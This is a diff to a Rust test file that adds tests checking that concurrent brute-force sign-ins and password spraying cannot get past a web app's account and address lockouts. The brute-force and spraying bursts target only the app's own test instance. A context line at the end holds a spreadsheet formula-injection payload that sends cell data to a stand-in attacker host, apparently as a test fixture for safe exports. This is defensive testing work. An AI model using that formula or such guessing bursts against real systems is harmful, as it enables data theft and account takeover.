@@ -6,10 +6,14 @@
 mod common;
 
 use common::{fixture, scalar, Engine, TestApp, PASSWORD};
+use futures_util::future::join_all;
+use pacesetter::auth::throttle::{MAX_PER_ACCOUNT, MAX_PER_CLIENT};
 use serde_json::{json, Value};
 
 on_both_engines!(
     no_js_sign_in_redirects_only_within_the_site,
+    parallel_sign_ins_cannot_pass_the_account_lockout,
+    parallel_guesses_cannot_pass_the_address_lockout,
     exported_cells_never_run_as_formulas_and_import_back_unchanged,
     signed_in_pages_and_new_secrets_are_not_cached,
     cross_site_check_compares_scheme_and_host,
@@ -80,6 +84,124 @@ async fn no_js_sign_in_redirects_only_within_the_site(engine: Engine) {
         .unwrap();
     assert!(res.status().is_success(), "{}", res.status());
     assert_eq!(location(&res), "/me");
+}
+
+/// 59 wrong guesses and the right password sent together, each on its own connection, as
+/// from many addresses: at most [`MAX_PER_ACCOUNT`] passwords are checked, and the right
+/// one is refused afterwards, except from a device that signed in before.
+async fn parallel_sign_ins_cannot_pass_the_account_lockout(engine: Engine) {
+    let app = TestApp::start(engine).await;
+    fixture(&app).await;
+    // Ada's phone signed in last week: it carries a known-device cookie.
+    let phone = app.client();
+    let res = app.sign_in(&phone, "ada@example.com", PASSWORD).await;
+    let cookies: Vec<_> = res.headers().get_all("set-cookie").iter().collect();
+    assert!(
+        cookies
+            .iter()
+            .any(|c| c.to_str().unwrap().starts_with("ps_device=")),
+        "{cookies:?}"
+    );
+    assert_eq!(
+        app.count("sign_in_attempts").await,
+        0,
+        "a success is not a failure"
+    );
+
+    let burst = (0..60).map(|i| {
+        let app = &app;
+        async move {
+            let password = if i == 30 { PASSWORD } else { "wrong-guess" };
+            app.sign_in(&app.client(), "ada@example.com", password)
+                .await
+                .status()
+                .as_u16()
+        }
+    });
+    let statuses = join_all(burst).await;
+    let failed = statuses.iter().filter(|s| **s == 401).count() as i64;
+    let succeeded = statuses.iter().filter(|s| matches!(s, 200 | 302)).count() as i64;
+    assert!(
+        statuses.iter().all(|s| matches!(s, 200 | 302 | 401 | 429)),
+        "{statuses:?}"
+    );
+    // Only the failures hold slots (a success gives its own back), so at most
+    // MAX_PER_ACCOUNT wrong passwords were checked.
+    assert!(
+        (1..=MAX_PER_ACCOUNT).contains(&failed) && succeeded <= 1,
+        "{failed} wrong passwords checked: {statuses:?}"
+    );
+    // Every failure is still counted, also when the right password got through with them.
+    assert_eq!(
+        scalar(
+            &app.db,
+            "SELECT COUNT(*) FROM sign_in_attempts WHERE email = 'ada@example.com'"
+        )
+        .await,
+        failed
+    );
+
+    // Fill the account's slots if the right password took one; then it is locked.
+    for _ in failed..MAX_PER_ACCOUNT {
+        let res = app.sign_in(&app.client(), "ada@example.com", "wrong").await;
+        assert_eq!(res.status(), 401);
+    }
+    let stranger = app
+        .sign_in(&app.client(), "ada@example.com", PASSWORD)
+        .await;
+    assert_eq!(stranger.status(), 429);
+    assert!(!stranger.headers().contains_key("set-cookie"));
+
+    // Ada's own phone still signs in with the right password…
+    let res = app.sign_in(&phone, "ada@example.com", PASSWORD).await;
+    assert!(
+        res.status().is_success() || res.status().is_redirection(),
+        "known device refused: {}",
+        res.status()
+    );
+    // …but guessing from it is limited too: the device has slots of its own.
+    let guesses = (0..MAX_PER_ACCOUNT + 3).map(|_| {
+        let (app, phone) = (&app, &phone);
+        async move {
+            app.sign_in(phone, "ada@example.com", "wrong")
+                .await
+                .status()
+                .as_u16()
+        }
+    });
+    let statuses = join_all(guesses).await;
+    assert_eq!(
+        statuses.iter().filter(|s| **s == 401).count() as i64,
+        MAX_PER_ACCOUNT,
+        "{statuses:?}"
+    );
+    let res = app.sign_in(&phone, "ada@example.com", PASSWORD).await;
+    assert_eq!(res.status(), 429);
+    // Another account is not affected by any of it.
+    app.signed_in("ben@example.com", PASSWORD).await;
+}
+
+/// Password spraying sent all at once from one address stops at [`MAX_PER_CLIENT`].
+async fn parallel_guesses_cannot_pass_the_address_lockout(engine: Engine) {
+    let app = TestApp::start(engine).await;
+    fixture(&app).await;
+    let spray = (0..MAX_PER_CLIENT + 20).map(|i| {
+        let app = &app;
+        async move {
+            app.sign_in(&app.client(), &format!("guess{i}@example.com"), "password1")
+                .await
+                .status()
+                .as_u16()
+        }
+    });
+    let statuses = join_all(spray).await;
+    assert_eq!(
+        statuses.iter().filter(|s| **s == 401).count() as i64,
+        MAX_PER_CLIENT,
+        "{statuses:?}"
+    );
+    assert!(statuses.iter().all(|s| matches!(s, 401 | 429)));
+    assert_eq!(app.count("sign_in_attempts").await, MAX_PER_CLIENT);
 }
 
 const LINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
